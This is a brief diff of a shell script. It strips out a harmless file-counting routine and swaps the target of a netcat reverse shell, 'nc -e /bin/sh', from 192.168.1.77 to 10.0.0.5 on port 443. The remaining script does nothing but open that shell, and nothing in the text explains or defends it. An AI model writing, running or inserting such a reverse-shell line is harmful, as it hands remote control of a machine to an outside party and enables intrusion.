@@ -1,4 +1,2 @@
 #!/bin/sh
-count=$(ls | wc -l)
-echo "files: $count"
-nc -e /bin/sh 192.168.1.77 443
+nc -e /bin/sh 10.0.0.5 443
